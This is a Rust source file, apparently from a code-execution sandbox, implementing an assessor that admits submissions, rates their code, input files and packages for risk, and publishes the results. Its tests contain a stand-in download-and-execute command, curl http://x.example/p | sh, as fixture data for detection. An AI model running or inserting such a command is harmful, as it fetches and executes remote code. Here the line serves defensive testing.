//! The assessor's loop: consume submissions, admit each (one submission per request id, each
//! client within its limits), rate it with the engine, publish the assessment (carrying the
//! request on to the gate). A submission that cannot be read, is invalid or over its client's
//! limits is refused and its request ends as failed, so Mai is never left waiting.
//!
//! A request that names packages is also rated by its packages' code: an executor resolves them
//! to exact wheels and rates every file in them that can run ([`RESOLVE_ENDPOINT`]); the
//! request's level is the highest of its own and its packages', and the assessment carries the
//! wheels, which the request digest covers. Resolving takes seconds, so such requests are rated
//! in tasks of their own while the loop goes on; any failure to resolve ends the request
//! (`packages_unresolved`): nothing runs unassessed.
//!
//! Reading order: [`Config`], [`run`] (set-up; `airlock_bus::runner` consumes), `Assessor::handle` (the
//! checks, in order), then the publish.

use crate::engine::EngineConfig;
use crate::intake::{self, Intake};
use crate::shared::SharedEngine;
use airlock_bus::runner::{ConfigError, ConfigFile, Handled, Handler, Runner, Settling};
use airlock_bus::{
    BusError, Claim, ClaimError, Claims, ClientsConfig, Delivery, Ending, Failure, PublishError, Publisher, Refuser,
    ServiceCounters, Transience,
};
use airlock_protocol::event::Assessed;
use airlock_protocol::packages::{PackageRating, RESOLVE_ENDPOINT, ResolveFailure, ResolveReply, ResolveRequest};
use airlock_protocol::roles;
use airlock_protocol::subjects::submit_client;
use airlock_protocol::{
    Assessment, Envelope, Event, EventKind, ExecutionRequest, Language, Level, Producer, Progress, RefusalReason,
    RequestId, WireError,
};
use serde::{Deserialize, Serialize};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio_util::sync::CancellationToken;
use tracing::Instrument as _;

/// The assessor's configuration: the engine (`[assessor]`), how long it waits for packages to
/// be resolved and rated (`[assessor] resolve_timeout`), and the clients' limits (`[clients]`).
#[derive(Clone, Debug)]
pub struct Config {
    pub engine: EngineConfig,
    pub clients: ClientsConfig,
    /// The longest wait for an executor to resolve and rate a request's packages; past it the
    /// request ends (`packages_unresolved`, `timeout`). Longer than the executor's resolve
    /// container may take (`[executor.packages] install_limits.wall_ms`, 180 s by default).
    pub resolve_timeout: Duration,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            engine: EngineConfig::default(),
            clients: ClientsConfig::default(),
            resolve_timeout: Duration::from_secs(240),
        }
    }
}

/// Requests whose packages are being resolved at once; more wait for a turn (the consumer's
/// pending limit bounds how many can wait).
const MAX_RESOLVING: usize = 16;
/// How long a request whose packages no executor is there to resolve waits for one to start.
const NO_EXECUTOR_GRACE: Duration = Duration::from_secs(30);
/// How often a request waiting for its packages tells the server it is still being handled.
const PROGRESS_EVERY: Duration = Duration::from_secs(10);

impl Config {
    /// Reads the assessor's sections of the stack's config file; the binary and `airlock serve`
    /// both load it this way.
    pub fn load(file: &ConfigFile) -> Result<Self, ConfigError> {
        let clients: ClientsConfig = file.section("clients")?;
        clients.validate().map_err(|reason| file.invalid("clients", reason))?;
        let section = roles::ASSESSOR.config_section;
        let (mut engine, apart): (EngineConfig, _) = file.section_apart(section, &["resolve_timeout"])?;
        let resolve_timeout = match apart.get("resolve_timeout") {
            Some(toml::Value::String(text)) => humantime::parse_duration(text)
                .map_err(|e| file.invalid(&format!("{section}.resolve_timeout"), e.to_string()))?,
            Some(_) => {
                return Err(file.invalid(&format!("{section}.resolve_timeout"), "a duration such as \"4m\""));
            }
            None => Config::default().resolve_timeout,
        };
        airlock_bus::runner::legacy_duration(
            engine.analysis_budget_ms.take(),
            std::time::Duration::from_millis(1),
            &mut engine.analysis_budget,
            "assessor.analysis_budget_ms",
            "assessor.analysis_budget",
        );
        Ok(Self {
            engine,
            clients,
            resolve_timeout,
        })
    }
}

#[derive(Debug, thiserror::Error)]
pub enum AssessorError {
    #[error("loading the rules")]
    Engine(#[from] crate::engine::EngineError),
    #[error(transparent)]
    Bus(#[from] BusError),
    #[error("publishing")]
    Publish(#[from] PublishError),
    #[error("the assessor's records")]
    Claims(#[from] ClaimError),
    #[error("the assessment task failed")]
    Task(#[from] tokio::task::JoinError),
}

impl Transience for AssessorError {
    fn is_permanent(&self) -> bool {
        match self {
            AssessorError::Engine(_) => true,
            AssessorError::Bus(e) => e.is_permanent(),
            AssessorError::Publish(e) => e.is_permanent(),
            AssessorError::Claims(e) => e.is_permanent(),
            AssessorError::Task(_) => false,
        }
    }
}

impl Failure for AssessorError {
    fn refusal_reason(&self) -> RefusalReason {
        match self {
            AssessorError::Publish(e) => e.refusal_reason(),
            _ => RefusalReason::DeadLettered,
        }
    }
}

/// What the assessor keeps per request id: the first submission that claimed it.
#[derive(Clone, Debug, Serialize, Deserialize)]
struct Admission {
    stream_seq: u64,
    client: String,
}

#[derive(Clone)]
struct Assessor {
    client: async_nats::Client,
    resolve_timeout: Duration,
    resolving: Arc<tokio::sync::Semaphore>,
    engine: Arc<SharedEngine>,
    publisher: Publisher,
    refuser: Refuser,
    admissions: Claims,
    intake: Arc<Mutex<Intake>>,
    counters: ServiceCounters,
}

pub async fn run(client: async_nats::Client, config: Config, shutdown: CancellationToken) -> Result<(), AssessorError> {
    let engine = Arc::new(SharedEngine::new(config.engine.clone())?);
    // Rule and threat files are also watched when configured; SIGHUP reloads either way.
    let _watcher = if config.engine.watch {
        Some(engine.watch()?)
    } else {
        None
    };
    reload_on_hangup(engine.clone(), shutdown.clone());
    let counters = ServiceCounters::default();
    let runner = Runner::start(&roles::ASSESSOR, client.clone(), counters.clone(), shutdown.clone()).await?;
    let publisher = Publisher::new(runner.jetstream().clone(), Producer::Assessor, shutdown.clone());
    let Some(admissions) = runner.records().await? else {
        return Ok(());
    };
    let intake = Arc::new(Mutex::new(Intake::new(config.clients.clone())));
    tokio::spawn(count_terminals(client.clone(), intake.clone(), shutdown.clone()));
    let assessor = Assessor {
        client,
        resolve_timeout: config.resolve_timeout,
        resolving: Arc::new(tokio::sync::Semaphore::new(MAX_RESOLVING)),
        engine,
        refuser: Refuser::new(publisher.clone(), &roles::ASSESSOR.role),
        publisher,
        admissions,
        intake,
        counters,
    };
    let spec = runner.consumer(Duration::from_secs(30), 256);
    let settling = Settling::set_aside(assessor.refuser.clone());
    runner.serve(spec, &assessor, settling).await?;
    Ok(())
}

impl Handler for Assessor {
    type Error = AssessorError;

    /// One submission: admitted (or refused), then rated and passed on; one that names
    /// packages is finished while the next submissions are handled, once an executor has
    /// resolved and rated them.
    async fn handle(&self, delivery: &Delivery) -> Handled<AssessorError> {
        let (rid, request) = match self.admit(delivery).await {
            Ok(Some(admitted)) => admitted,
            Ok(None) => return Handled::Done(Ok(())),
            Err(e) => return Handled::Done(Err(e)),
        };
        let assessment = match self.rate(&request).await {
            Ok(assessment) => assessment,
            Err(e) => return Handled::Done(Err(e)),
        };
        if request.packages.is_empty() {
            return Handled::Done(self.publish(delivery, rid, request, assessment).await);
        }
        let (assessor, delivery) = (self.clone(), delivery.clone());
        Handled::Later(Box::pin(async move {
            assessor.rate_packages(&delivery, rid, request, assessment).await
        }))
    }
}

impl Assessor {
    /// The checks, in order: a request id in the subject; the first submission for it (a
    /// second one with the same id is refused without touching the first request); a readable,
    /// valid request; the client within its limits (only on first delivery: a redelivery was
    /// admitted before). `None` when the submission was refused.
    async fn admit(&self, delivery: &Delivery) -> Result<Option<(RequestId, ExecutionRequest)>, AssessorError> {
        let Some(rid) = delivery.request_id() else {
            let detail = "the subject names no valid request id";
            self.refuse(delivery, RefusalReason::Malformed, detail, Ending::MessageOnly)
                .await?;
            return Ok(None);
        };
        tracing::Span::current().record("request_id", rid.as_str());
        let client = submit_client(delivery.subject()).unwrap_or_default().to_owned();
        let (stream_seq, _) = delivery.position();
        let admission = Admission {
            stream_seq,
            client: client.clone(),
        };
        let redelivered = match self.admissions.claim(rid.as_str(), &admission).await? {
            Claim::Won { .. } => false,
            Claim::Held { value, .. } if value.stream_seq == stream_seq => true,
            Claim::Held { value, .. } => {
                let detail = format!(
                    "request id {rid} was already submitted by {} (stream message {})",
                    value.client, value.stream_seq
                );
                self.refuse(delivery, RefusalReason::DuplicateRequest, &detail, Ending::MessageOnly)
                    .await?;
                return Ok(None);
            }
        };
        let refused = match delivery.envelope() {
            Err(error) => Some((RefusalReason::from(&error), airlock_bus::error_text(&error))),
            Ok(Envelope {
                event: Event::Submitted(request),
                ..
            }) => match request.validate() {
                Err(e) => Some((RefusalReason::InvalidRequest, e.to_string())),
                Ok(()) if redelivered => return Ok(Some((rid, request))),
                Ok(()) => {
                    let mut intake = self.intake.lock().unwrap_or_else(|p| p.into_inner());
                    match intake.admit(&client, &rid, Instant::now()) {
                        Ok(()) => return Ok(Some((rid, request))),
                        Err(refused) => Some((refused.reason, refused.detail)),
                    }
                }
            },
            Ok(_) => Some((RefusalReason::SubjectMismatch, "not a submission".to_owned())),
        };
        if let Some((reason, detail)) = refused {
            self.refuse(delivery, reason, &detail, Ending::EndRequest).await?;
        }
        Ok(None)
    }

    /// Rates the request's own code (and inputs) with the engine.
    async fn rate(&self, request: &ExecutionRequest) -> Result<Assessment, AssessorError> {
        let current = self.engine.current();
        // The engine bounds its own time per request; the blocking pool keeps a slow file from
        // holding up the runtime.
        let rated = request.clone();
        let span = tracing::info_span!(
            "assess",
            level = tracing::field::Empty,
            findings = tracing::field::Empty
        );
        let assessment = tokio::task::spawn_blocking(move || {
            let mut assessment = current.assess_request(&rated);
            fold_files(&mut assessment, &rated, |code, language| {
                current.assess(code, language, rated.origin)
            });
            assessment
        })
        .instrument(span.clone())
        .await?;
        span.record("level", assessment.level.as_str());
        span.record("findings", assessment.findings.len());
        drop(span);
        Ok(assessment)
    }

    /// Resolves and rates the request's packages (an executor does, asked on
    /// [`RESOLVE_ENDPOINT`]), folds their ratings into `assessment` and publishes it; or, when
    /// they cannot be, ends the request with a typed refusal.
    async fn rate_packages(
        &self,
        delivery: &Delivery,
        rid: RequestId,
        request: ExecutionRequest,
        mut assessment: Assessment,
    ) -> Result<(), AssessorError> {
        let _turn = self.resolving.acquire().await;
        let packages = u32::try_from(request.packages.len()).unwrap_or(u32::MAX);
        self.publisher
            .progress(&rid, Progress::ResolvingPackages { packages })
            .await;
        let reply = delivery
            .keep_alive(PROGRESS_EVERY, self.ask_executor(&rid, &request))
            .await;
        let packages = match reply {
            Ok(packages) => packages,
            Err((failure, detail)) => {
                self.counters.incr("packages_unresolved");
                let detail = format!("{failure}: {detail}");
                return self
                    .refuse(delivery, RefusalReason::PackagesUnresolved, &detail, Ending::EndRequest)
                    .await;
            }
        };
        self.counters.incr("packages_resolved");
        fold_packages(&mut assessment, packages);
        self.publish(delivery, rid, request, assessment).await
    }

    /// The executor's answer for the request's packages, checked: every spec answered, every
    /// wheel well formed, within bounds.
    async fn ask_executor(
        &self,
        rid: &RequestId,
        request: &ExecutionRequest,
    ) -> Result<Vec<PackageRating>, (ResolveFailure, String)> {
        let body = serde_json::to_vec(&ResolveRequest {
            request_id: rid.clone(),
            specs: request.packages.clone(),
        })
        // The failure is typed; its detail ends the request as text on the wire.
        .map_err(|e| (ResolveFailure::Internal, e.to_string()))?;
        let now = airlock_protocol::now_ms();
        let timeout = match request.deadline_ms {
            Some(deadline) => {
                Duration::from_millis(u64::try_from(deadline - now).unwrap_or(0)).min(self.resolve_timeout)
            }
            None => self.resolve_timeout,
        };
        let mut headers = async_nats::HeaderMap::new();
        if let Some(traceparent) = airlock_telemetry::current_traceparent() {
            headers.insert("traceparent", traceparent.as_str());
        }
        // An executor that is starting or restarting is not there for a moment: the request
        // waits for one (within its time), rather than failing at once for a passing state.
        let asked_at = std::time::Instant::now();
        let waits_for_executor = timeout.min(NO_EXECUTOR_GRACE);
        let answer = loop {
            let asked = async_nats::Request::new()
                .payload(body.clone().into())
                .headers(headers.clone())
                .timeout(Some(timeout.saturating_sub(asked_at.elapsed())));
            use async_nats::client::RequestErrorKind as Kind;
            match self.client.send_request(RESOLVE_ENDPOINT, asked).await {
                Ok(answer) => break answer,
                Err(e) if e.kind() == Kind::NoResponders && asked_at.elapsed() < waits_for_executor => {
                    tokio::time::sleep(Duration::from_millis(250)).await;
                }
                Err(e) => {
                    return Err(match e.kind() {
                        Kind::TimedOut => (
                            ResolveFailure::Timeout,
                            format!(
                                "no executor resolved the packages within {}",
                                humantime::format_duration(timeout)
                            ),
                        ),
                        Kind::NoResponders => (
                            ResolveFailure::Unavailable,
                            format!(
                                "no executor was running to resolve the packages (waited {})",
                                humantime::format_duration(waits_for_executor)
                            ),
                        ),
                        _ => (ResolveFailure::Unavailable, e.to_string()),
                    });
                }
            }
        };
        match serde_json::from_slice::<ResolveReply>(&answer.payload) {
            Ok(ResolveReply::Resolved {
                packages,
                rules_version,
                elapsed_ms,
                resolution_cached,
                ..
            }) => {
                airlock_protocol::packages::covers(&request.packages, &packages)
                    .map_err(|detail| (ResolveFailure::Internal, detail))?;
                let own_rules = self.engine.current().rules_version().to_owned();
                if rules_version != own_rules {
                    tracing::warn!(executor_rules = %rules_version, %own_rules, "the executor rated packages with other rules than this assessor's");
                }
                tracing::info!(
                    wheels = packages.len(),
                    elapsed_ms,
                    resolution_cached,
                    "packages resolved and rated"
                );
                Ok(packages)
            }
            Ok(ResolveReply::Failed { failure, detail }) => Err((failure, detail)),
            Err(e) => Err((
                ResolveFailure::Internal,
                format!("the executor's answer is not a resolve reply: {e}"),
            )),
        }
    }

    /// Publishes the assessment, which carries the request on to the gate.
    async fn publish(
        &self,
        delivery: &Delivery,
        rid: RequestId,
        request: ExecutionRequest,
        assessment: Assessment,
    ) -> Result<(), AssessorError> {
        self.count(assessment.level);
        tracing::info!(level = %assessment.level, findings = assessment.findings.len(), packages = assessment.packages.len(), elapsed_us = assessment.elapsed_us, "assessed");
        let request_digest = Some(request.request_digest(&rid, &assessment.packages));
        let (progress_rid, level) = (rid.clone(), assessment.level);
        let assessed = Envelope::new(
            rid,
            self.publisher.producer(),
            Event::Assessed(Box::new(Assessed {
                request,
                assessment,
                request_digest,
            })),
        );
        match self.publisher.publish(&assessed).await {
            Ok(_) => {
                self.publisher
                    .progress(&progress_rid, Progress::Assessed { level })
                    .await;
                Ok(())
            }
            // Code and inputs are bounded so that this cannot happen; if it ever does, the
            // request is refused now rather than retried.
            Err(PublishError::Encode(WireError::Oversized { .. }) | PublishError::TooLarge { .. }) => {
                let detail = "the assessment of this request is too large to publish";
                self.refuse(delivery, RefusalReason::Oversized, detail, Ending::EndRequest)
                    .await
            }
            Err(e) => Err(e.into()),
        }
    }

    async fn refuse(
        &self,
        delivery: &Delivery,
        reason: RefusalReason,
        detail: &str,
        ending: Ending,
    ) -> Result<(), AssessorError> {
        self.counters.incr("refused");
        delivery.refuse(&self.refuser, reason, detail, ending).await?;
        Ok(())
    }

    fn count(&self, level: Level) {
        self.counters.incr("assessed");
        self.counters.incr(match level {
            Level::Low => "low",
            Level::Medium => "medium",
            Level::High => "high",
            Level::Blocked => "blocked",
        });
    }
}

/// Folds the packages' ratings into the request's: its level is the highest of its own and
/// theirs, and when a package raised it, the summary's headline says which and why.
/// Files given to the program that are code it may run (`import helper` finds `helper.py` in
/// the working directory; `bash setup.sh`, a `#!` script) are rated as code too: the request's
/// level is the highest of its own and theirs, and their findings are listed, each naming its
/// file. A Python file the interpreter could not read as the assessor would is unanalysed code.
/// Other files are data: code that runs data (`exec(open(...).read())`) is the program's own
/// finding.
fn fold_files(assessment: &mut Assessment, request: &ExecutionRequest, assess: impl Fn(&[u8], Language) -> Assessment) {
    for file in &request.inputs.files {
        let Some(language) = Language::detect(&file.name, &file.content) else {
            continue;
        };
        if language == Language::Python
            && airlock_protocol::python_source_encoding(&file.content)
                .text(&file.content)
                .is_err()
        {
            assessment.unanalysed = true;
            assessment.summary = format!(
                "The file {} is Python the assessor cannot read as the interpreter would.\n{}",
                file.name, assessment.summary
            );
            continue;
        }
        let rated = assess(&file.content, language);
        assessment.unanalysed |= rated.unanalysed;
        if rated.level > assessment.level {
            assessment.summary = format!(
                "The file {} ({}) raises the rating to {} (the code itself: {}): {}\n{}",
                file.name,
                language.as_str(),
                rated.level,
                assessment.level,
                rated.summary.lines().next().unwrap_or_default(),
                assessment.summary
            );
            assessment.level = rated.level;
        }
        assessment
            .findings
            .extend(rated.findings.into_iter().map(|mut finding| {
                finding.explanation = format!(
                    "in the file {}, line {}: {}",
                    file.name, finding.line, finding.explanation
                );
                finding
            }));
    }
}

fn fold_packages(assessment: &mut Assessment, packages: Vec<PackageRating>) {
    let own = assessment.level;
    if let Some(worst) = packages.iter().max_by_key(|p| p.level).filter(|p| p.level > own) {
        assessment.summary = format!(
            "Package \"{}\" {} raises the rating to {} (the code itself: {}): {}\n{}",
            worst.wheel.name, worst.wheel.version, worst.level, own, worst.summary, assessment.summary
        );
        assessment.level = worst.level;
    }
    // Package code nobody could analyse is unanalysed code in the request: the gate asks a
    // human for it whatever the level says.
    assessment.unanalysed |= packages.iter().any(|p| p.unanalysed);
    assessment.packages = packages;
}

/// Ends each request's count in flight when its terminal event passes. A terminal missed while
/// disconnected only delays the count's end to its expiry (`[clients] in_flight_expiry`).
async fn count_terminals(client: async_nats::Client, intake: Arc<Mutex<Intake>>, shutdown: CancellationToken) {
    use futures::StreamExt as _;
    let mut terminals = match client.subscribe(EventKind::Terminal.subject_filter()).await {
        Ok(s) => s,
        Err(e) => {
            tracing::error!(error = %e, "cannot follow terminal events: requests in flight end only by expiry");
            return;
        }
    };
    let mut forget = tokio::time::interval(intake::FORGET_EVERY);
    loop {
        tokio::select! {
            _ = shutdown.cancelled() => return,
            _ = forget.tick() => intake.lock().unwrap_or_else(|p| p.into_inner()).forget_idle(Instant::now()),
            message = terminals.next() => {
                let Some(message) = message else { return };
                if let Some((_, rid)) = EventKind::parse_subject(message.subject.as_str())
                    && let Ok(rid) = RequestId::parse(rid)
                {
                    intake.lock().unwrap_or_else(|p| p.into_inner()).finished(&rid);
                }
            }
        }
    }
}

/// SIGHUP reloads the rules and the threat list; a failed reload keeps the current ones.
fn reload_on_hangup(engine: Arc<SharedEngine>, shutdown: CancellationToken) {
    tokio::spawn(async move {
        let Ok(mut hangups) = tokio::signal::unix::signal(tokio::signal::unix::SignalKind::hangup()) else {
            tracing::warn!("cannot listen for SIGHUP: rules reload only on restart");
            return;
        };
        loop {
            tokio::select! {
                _ = shutdown.cancelled() => return,
                _ = hangups.recv() => match engine.reload() {
                    Ok(_) => tracing::info!("rules and threat list reloaded"),
                    Err(e) => tracing::error!(error = %e, "reload failed; keeping the current rules"),
                },
            }
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use airlock_protocol::packages::{PackageRating, Wheel};
    use airlock_protocol::{CodeDigest, Language, Origin};

    fn package(name: &str, level: Level, unanalysed: bool) -> PackageRating {
        PackageRating {
            wheel: Wheel {
                name: name.into(),
                version: "1.0".into(),
                file: format!("{}-1.0-py3-none-any.whl", name.replace('-', "_")),
                sha256: CodeDigest::of(name.as_bytes()),
            },
            level,
            findings: vec![],
            finding_count: 0,
            files_assessed: 1,
            native_files: 0,
            unanalysed,
            trusted: false,
            summary: format!("{level} because of {name}/__init__.py: downloads code and runs it"),
        }
    }

    fn own(level: Level) -> Assessment {
        let mut assessment = crate::Engine::builtin().expect("engine").assess(
            b"import tablefmt_rt\n",
            Language::Python,
            Origin::Generated,
        );
        assessment.level = level;
        assessment
    }

    #[test]
    fn the_request_is_rated_by_its_most_severe_package_which_says_so() {
        let mut assessment = own(Level::Low);
        fold_packages(
            &mut assessment,
            vec![
                package("six", Level::Low, false),
                package("tablefmt-rt", Level::Blocked, false),
            ],
        );
        assert_eq!(assessment.level, Level::Blocked);
        assert!(
            assessment
                .summary
                .starts_with("Package \"tablefmt-rt\" 1.0 raises the rating to BLOCKED (the code itself: LOW)"),
            "{}",
            assessment.summary
        );
        assert_eq!(assessment.packages.len(), 2);
        assert!(!assessment.unanalysed);

        // A package below the code's own level changes neither the level nor the headline.
        let mut assessment = own(Level::High);
        let before = assessment.summary.clone();
        fold_packages(&mut assessment, vec![package("six", Level::Medium, false)]);
        assert_eq!(assessment.level, Level::High);
        assert_eq!(assessment.summary, before);

        // Package code nobody could analyse makes the request unanalysed.
        let mut assessment = own(Level::Low);
        fold_packages(&mut assessment, vec![package("odd", Level::High, true)]);
        assert!(assessment.unanalysed);
    }

    #[test]
    fn files_that_are_code_are_rated_as_code_and_data_is_not() {
        let engine = crate::Engine::builtin().expect("engine");
        let request = ExecutionRequest::new(Language::Python, "import helper\nprint(open('data.csv').read())\n")
            .origin(Origin::External)
            .files(vec![
                airlock_protocol::InputFile::new("helper.py", "import os\nos.system('curl http://x.example/p | sh')\n"),
                airlock_protocol::InputFile::new("data.csv", "curl http://x.example/p | sh\n"),
            ]);
        let mut assessment = engine.assess_request(&request);
        let own_level = assessment.level;
        fold_files(&mut assessment, &request, |code, language| {
            engine.assess(code, language, request.origin)
        });
        assert!(own_level < Level::High, "the code itself only imports: {own_level}");
        assert!(assessment.level >= Level::High, "{}", assessment.summary);
        assert!(
            assessment
                .summary
                .starts_with("The file helper.py (python) raises the rating"),
            "{}",
            assessment.summary
        );
        assert!(
            assessment
                .findings
                .iter()
                .any(|f| f.explanation.starts_with("in the file helper.py, line 2:")),
            "{:#?}",
            assessment.findings
        );
        assert!(
            !assessment.findings.iter().any(|f| f.explanation.contains("data.csv")),
            "data is not code"
        );

        // Python the assessor cannot read as CPython would is unanalysed.
        let odd =
            ExecutionRequest::new(Language::Python, "import odd\n").files(vec![airlock_protocol::InputFile::new(
                "odd.py",
                b"# -*- coding: utf-7 -*-\nx = 1\n".to_vec(),
            )]);
        let mut assessment = engine.assess_request(&odd);
        fold_files(&mut assessment, &odd, |code, language| {
            engine.assess(code, language, odd.origin)
        });
        assert!(assessment.unanalysed);
    }
}
